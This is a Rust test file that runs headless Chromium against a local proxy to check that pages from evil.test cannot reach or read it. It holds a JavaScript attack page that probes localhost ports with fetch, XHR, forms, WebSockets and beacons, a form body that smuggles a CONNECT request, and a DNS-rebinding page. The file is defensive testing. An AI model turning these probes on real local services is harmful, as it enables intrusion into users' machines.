//! Pages in real headless Chromium, of the same user as the proxy: a page that attacks the proxy is
//! refused and reaches nobody, and a browser that is told to use the proxy can.

use std::{
    collections::BTreeMap,
    fs,
    net::TcpListener,
    os::unix::process::CommandExt as _,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::mpsc,
    thread,
    time::Duration,
};

use rustix::process::{Pid, Signal, kill_process_group};

use super::{
    proxy_lab::{self, Client, Daemon, Next, Upstream, status},
    support::{
        chromium::{chromium, temporary},
        eventually,
        home::Home,
        program, skipped,
    },
};

/// How long a page may take, and Chromium to start on a busy machine.
const LIMIT: Duration = Duration::from_secs(120);

/// A browser with a profile of its own; it ends with the value.
pub(crate) struct Browser {
    child: Child,
    home: Home,
}

impl Browser {
    /// Opens a page. `None`: skipped.
    fn open(url: &str, options: &[String]) -> Option<Self> {
        Some(Self::start(program("chromium", "chromium")?, &[], url, options))
    }

    /// The same, where these are the names of the machine. Needs root.
    fn open_with_hosts(url: &str, options: &[String], hosts: &Path) -> Option<Self> {
        let chromium = program("chromium", "chromium")?.display().to_string();
        let unshare = program("unshare", "util-linux")?;
        let works = Command::new(&unshare).args(["--mount", "true"]).output();
        if !works.is_ok_and(|output| output.status.success()) {
            skipped("only root can give a program other names");
            return None;
        }
        let script = "mount --bind \"$0\" /etc/hosts && exec \"$@\"";
        let hosts = hosts.display().to_string();
        let before = ["--mount", "sh", "-c", script, &hosts, &chromium];
        Some(Self::start(unshare, &before, url, options))
    }

    fn start(program: PathBuf, before: &[&str], url: &str, options: &[String]) -> Self {
        let home = Home::new();
        let run = chromium(&home, program, before.iter().copied())
            // What Chromium itself does against such pages is not what is tested.
            .arg(
                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,\
                 PrivateNetworkAccessRespectPreflightResults,HttpsUpgrades,HttpsFirstBalancedMode",
            )
            .args(options.to_vec())
            .arg(url);
        let mut command = run.command();
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        let child = command.process_group(0).spawn().expect("chromium");
        Self { child, home }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = kill_process_group(Pid::from_child(&self.child), Signal::KILL);
        let _ = self.child.wait();
    }
}

#[test]
fn a_browser_keeps_its_temporary_files_to_itself() {
    let Some(browser) = Browser::open("about:blank", &[]) else { return };
    let folder = eventually("a folder that it would leave behind", || {
        let mut found = fs::read_dir(temporary(&browser.home)).ok()?.flatten();
        found.find(|one| one.file_name().to_string_lossy().starts_with("org.chromium."))
    });
    drop(browser);
    assert!(!folder.path().exists());
}

/// A web server that serves one page, and takes its report.
fn site(page: String) -> (Upstream, mpsc::Receiver<String>) {
    let (told, report) = mpsc::channel();
    let server = Upstream::start(move |client, head| {
        serve(client, head, &page, &told);
        Next::Close
    });
    (server, report)
}

/// Answers as a web server, whatever the form of the target.
fn serve(client: &mut Client, head: &str, page: &str, told: &mpsc::Sender<String>) {
    let answer = |client: &mut Client, kind: &str, body: &str| {
        client.send(format!(
            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\
             Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ));
    };
    let field = |line: &&str| line.to_ascii_lowercase().starts_with("content-length: ");
    let length = head.lines().find(field).and_then(|line| line.split(' ').nth(1)?.parse().ok());
    let body = client.exactly(length.unwrap_or(0));
    let target = head.split(' ').nth(1).unwrap_or_default();
    if target.ends_with("/report") {
        answer(client, "text/plain", "thanks");
        let _ = told.send(body);
    } else if target.ends_with("/page") {
        answer(client, "text/html", page);
    } else {
        answer(client, "text/plain", &format!("got {body:?}"));
    }
}

/// What every page has that tries something: attempts, each with its time.
const ATTEMPTS: &str = r#"<!doctype html><meta charset="utf-8"><title>x</title><body>
<script>
const port = @PORT@;
const seen = {};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const limit = (work) => Promise.race([work, wait(5000).then(() => 'nothing in 5 s')]);
const attempt = async (name, work) => {
  try { seen[name] = String(await limit(work())); } catch (error) { seen[name] = 'error'; }
};
const look = async (response) => response.type + ' ' + response.status + ' ' + await response.text();
const element = (tag, source) => new Promise((done) => {
  const it = document.createElement(tag);
  it[tag === 'link' ? 'href' : 'src'] = source;
  if (tag === 'link') it.rel = 'stylesheet';
  it.onload = () => done('loaded');
  it.onerror = () => done('error');
  document.body.append(it);
});
</script>
"#;

/// Opens a page of evil.test that tries something against a port, and fails where it sees anything of the
/// answers; `harmless` is what an attempt may say that tells nothing. Returns how many there were, and the
/// browser. `None`: skipped.
pub(crate) fn attempts(
    page: &str,
    port: u16,
    options: Vec<String>,
    harmless: &str,
) -> Option<(usize, Browser)> {
    let page = [ATTEMPTS, page].concat().replace("@PORT@", &port.to_string());
    let (server, report) = site(page);
    let rules = format!(
        "--host-resolver-rules=MAP evil.test {}, MAP rebound.test 127.0.0.1",
        server.address
    );
    let browser = Browser::open("http://evil.test/page", &[options, vec![rules]].concat())?;
    let told = report.recv_timeout(LIMIT).expect("the page reports");
    let seen: BTreeMap<String, String> = serde_json::from_str(&told).expect("JSON");
    for (name, what) in &seen {
        // An opaque answer tells a page nothing; of the others it sees nothing at all.
        let is_blind = ["error", "opaque 0 ", harmless].contains(&what.as_str());
        assert!(is_blind, "{name}: {what}");
    }
    Some((seen.len(), browser))
}

/// Tries whatever a page can do to a port, and reports what it saw of the answers.
const ATTACK: &str = r#"<iframe name="frame"></iframe>
<script>
const form = (action, body) => new Promise((done) => {
  const it = document.createElement('form');
  Object.assign(it, { action, method: 'POST', enctype: 'text/plain', target: 'frame' });
  const field = document.createElement('input');
  field.name = body;
  field.value = '';
  it.append(field);
  document.body.append(it);
  document.querySelector('iframe').onload = () => {
    try { done('read ' + window.frames.frame.document.body.innerText); } catch { done('error'); }
  };
  it.submit();
});
(async () => {
  for (const host of ['127.0.0.1', 'localhost', 'rebound.test']) {
    const at = `http://${host}:${port}`;
    await attempt(host + ' fetch', async () => look(await fetch(at + '/')));
    await attempt(host + ' no-cors', async () =>
      look(await fetch(at + '/status.json', { mode: 'no-cors', credentials: 'include' })));
    await attempt(host + ' post', async () =>
      look(await fetch(at + '/', { method: 'POST', mode: 'no-cors', body: '{"ask":"stop"}' })));
    await attempt(host + ' preflight', async () => look(await fetch(at + '/', {
      method: 'PUT', headers: { 'Content-Type': 'application/json', 'Proxy-Authorization': 'x' } })));
    await attempt(host + ' xhr', () => new Promise((done, fail) => {
      const it = new XMLHttpRequest();
      it.open('POST', at + '/stop');
      it.onload = () => done('read ' + it.responseText);
      it.onerror = fail;
      it.send('{"ask":"stop"}');
    }));
    await attempt(host + ' form', () =>
      form(at + '/', '\r\nCONNECT h.test:443 HTTP/1.1\r\nHost: h.test\r\n\r\n'));
    await attempt(host + ' img', () => element('img', at + '/quit'));
    await attempt(host + ' script', () => element('script', at + '/metrics'));
    await attempt(host + ' link', () => element('link', at + '/x.css'));
    await attempt(host + ' events', () => new Promise((done, fail) => {
      const it = new EventSource(at + '/access.log');
      it.onmessage = (event) => { it.close(); done('read ' + event.data); };
      it.onerror = () => { it.close(); fail(); };
    }));
    await attempt(host + ' websocket', () => new Promise((done, fail) => {
      const it = new WebSocket(`ws://${host}:${port}/`);
      it.onopen = () => done('read');
      it.onerror = fail;
    }));
    await attempt(host + ' beacon', async () => (navigator.sendBeacon(at + '/', 'x'), 'sent'));
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
})();
</script>"#;

fn attack(through: impl Fn(&Daemon) -> Vec<String>) {
    let (home, upstream) = (Home::new(), Upstream::echo());
    let mut daemon = Daemon::through(&home, &[&upstream]);
    let proxied = through(&daemon);
    let has_proxy = !proxied.is_empty();
    let port = daemon.address.port();
    let Some((count, _browser)) = attempts(ATTACK, port, proxied, "sent") else { return };
    assert_eq!(count, 36);
    // Chromium has requests of its own, which go through a proxy where it is told to use one.
    let heads = upstream.heads();
    let is_theirs = |head: &&String| {
        ["h.test", "evil.test", "rebound.test", "127.0.0.1", "localhost"]
            .iter()
            .any(|at| head.contains(at))
    };
    assert_eq!(heads.iter().find(is_theirs), None);
    assert!(has_proxy || heads.is_empty(), "{heads:?}");
    // They did arrive.
    let report = proxy_lab::report(&home);
    let refused = report.pointer("/totals/refused").and_then(serde_json::Value::as_u64);
    assert!(refused.is_some_and(|refused| refused >= 30), "{report}");
    assert!(daemon.child.try_wait().expect("a child").is_none(), "it has ended");
    // The user's own programs are served as before.
    let mut client = daemon.client();
    client.send("CONNECT h.test:443 HTTP/1.1\r\nHost: h\r\n\r\n");
    assert_eq!(status(&client.head().expect("an answer")), "200");
}

#[test]
fn a_page_that_attacks_the_proxy_reaches_nobody() {
    attack(|_| Vec::new());
}

/// DNS rebinding: the name of the page has two addresses, and the one that the page came from takes no
/// more connections. What we say is then, to the browser, the page's own.
#[test]
fn a_page_whose_name_leads_to_us_is_told_that_this_is_no_web_server() {
    const PAGE: &str = "<!doctype html><script>
        (async () => {
          const seen = [];
          for (const [method, path] of [['GET', '/'], ['GET', '/metrics'], ['GET', '/status.json'],
              ['POST', '/stop'], ['OPTIONS', '/'], ['PUT', '/']])
            try {
              const answer = await fetch(path, { method, headers: { 'X-A': 'b' } });
              seen.push(answer.status + ' ' + (await answer.text()).split('\\n')[0]);
            } catch (error) { seen.push('error'); }
          const body = seen.join('\\n');
          await fetch('http://@REPORTS@/report', { method: 'POST', mode: 'no-cors', body });
        })()</script>";
    let (home, upstream) = (Home::new(), Upstream::echo());
    home.write(".config/gocred/config.toml", "[proxy]\nallow = [\"127.0.0.0/8\"]\n");
    // The resolver gives 127.0.0.1 first.
    let (listener, ours) = same_port();
    let run = home.gocred().args(["proxy", "run", "--listen", &ours]);
    let _daemon = Daemon::start(&run.args(["--upstream", &upstream.url()]));
    let Some(seen) = rebound(&home, listener, PAGE) else { return };
    assert_eq!(seen.lines().count(), 6, "{seen}");
    for line in seen.lines() {
        assert!(line.starts_with("421 gocred: ") || line.starts_with("403 gocred: "), "{seen}");
    }
    assert_eq!(upstream.connections(), 0);
}

/// Returns a listener at 127.0.0.1, and its port at 127.0.0.9. That one nobody else listens at; the other way
/// round it may be another test's.
pub(crate) fn same_port() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("its address").port();
    (listener, format!("127.0.0.9:{port}"))
}

/// Opens a page of a listener at 127.0.0.1 under a name that leads to 127.0.0.9, too; returns what it
/// reports to `@REPORTS@`.
pub(crate) fn rebound(home: &Home, listener: TcpListener, page: &str) -> Option<String> {
    let (reports, report) = site(String::new());
    let page = page.replace("@REPORTS@", &reports.address.to_string());
    let port = listener.local_addr().expect("its address").port();
    thread::spawn(move || {
        let mut page_is_served = false;
        while !page_is_served {
            let mut client = Client::on(listener.accept().expect("a browser").0);
            // Browsers open connections that they do not use.
            let Some(head) = client.head() else { continue };
            page_is_served = head.contains("/page ");
            serve(&mut client, &head, &page, &mpsc::channel().0);
        }
    });
    let names = "127.0.0.1 localhost\n127.0.0.1 rebound.test\n127.0.0.9 rebound.test\n";
    let names = home.write("hosts", names);
    let options = ["--disable-features=AsyncDns".to_owned()];
    let url = format!("http://rebound.test:{port}/page");
    let _browser = Browser::open_with_hosts(&url, &options, &names)?;
    Some(report.recv_timeout(LIMIT).expect("the page reports"))
}

/// The page comes through the proxy. Browsers go to loopback without one.
#[test]
fn a_page_that_came_through_the_proxy_reaches_nobody_behind_it() {
    let via = |daemon: &Daemon| {
        vec![
            format!("--proxy-server=http://{}", daemon.address),
            "--proxy-bypass-list=evil.test;rebound.test".to_owned(),
        ]
    };
    attack(via);
}

const USE: &str = r#"<!doctype html><body><script>
(async () => {
  const seen = [];
  const text = async (work) => { try { return await (await work).text(); } catch { return 'error'; } };
  seen.push(await text(fetch('http://api.test/get')));
  seen.push(await text(fetch('http://api.test/post', { method: 'POST', body: 'body' })));
  seen.push(await text(fetch('/own', { method: 'PUT', body: 'x'.repeat(200000) })));
  await new Promise((done) => {
    const it = new WebSocket('ws://socket.test/');
    it.onopen = it.onerror = done;
  });
  const all = await Promise.all([...Array(40).keys()].map((n) => text(fetch('http://api.test/' + n))));
  seen.push(String(all.filter((one) => one === 'got ""').length));
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
})();
</script>"#;

#[test]
fn a_browser_that_is_told_to_use_the_proxy_can() {
    let (told, report) = mpsc::channel();
    let upstream = Upstream::start(move |client, head| {
        if head.starts_with("CONNECT ") {
            client.send("HTTP/1.1 200 ok\r\n\r\n");
            return Next::Again;
        }
        serve(client, head, USE, &told);
        Next::Close
    });
    let home = Home::new();
    let daemon = Daemon::through(&home, &[&upstream]);
    let options = [format!("--proxy-server=http://{}", daemon.address)];
    let Some(_browser) = Browser::open("http://site.test/page", &options) else { return };
    let seen = report.recv_timeout(LIMIT).expect("the page reports");
    let seen: Vec<String> = serde_json::from_str(&seen).expect("JSON");
    assert_eq!(seen[..2], ["got \"\"", "got \"body\""]);
    assert_eq!((seen[2].len(), seen[3].as_str()), (200_006, "40"));
    let heads = upstream.heads();
    let socket = heads.iter().any(|head| head.starts_with("CONNECT socket.test:80 "));
    assert!(socket, "the WebSocket has its tunnel: {heads:?}");
}
